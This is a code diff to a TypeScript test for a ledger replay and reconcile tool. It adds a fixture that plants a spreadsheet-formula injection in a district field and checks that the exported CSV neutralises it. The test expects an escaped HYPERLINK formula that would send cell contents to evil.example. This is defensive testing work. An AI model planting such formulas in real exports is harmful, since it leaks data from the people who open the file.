@@ -9,6 +9,7 @@ import {
   cbo,
   distribution,
   donor,
+  FORMULA_DISTRICT,
   fund,
   resolution,
   uid,
@@ -30,7 +31,8 @@ const [SANGAMA, VAMP] = ["sangama-blr", "vamp-sangli"];
 
 const PHASE_ONE = [
   cbo(SANGAMA),
-  cbo(VAMP, "IN-MH"),
+  // A district planted to run as a formula in the auditor's spreadsheet.
+  cbo(VAMP, "IN-MH", FORMULA_DISTRICT),
   donor("azim-trust"),
   fund({ fund: 1, cboId: SANGAMA, amountPaise: 150_000, receivedOn: "2021-04-01" }),
   distribution({ id: 11, cboId: SANGAMA, on: "2021-05-01", people: [1] }),
@@ -116,6 +118,9 @@ describe("ledger replay and ledger reconcile", () => {
         readFileSync(path(`position/${file}`), "utf8"),
       );
     }
+    const cboTotals = readFileSync(path("position/cbo-totals.csv"), "utf8");
+    expect(cboTotals).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",`);
+    expect(cboTotals).not.toMatch(/(^|,)"?=/m);
     expect(readFileSync(path("position/flags.csv"), "utf8")).toMatch(
       /^flagId,personId,.*\n0{8}-0000-7000-8000-0{10}0c,/,
     );
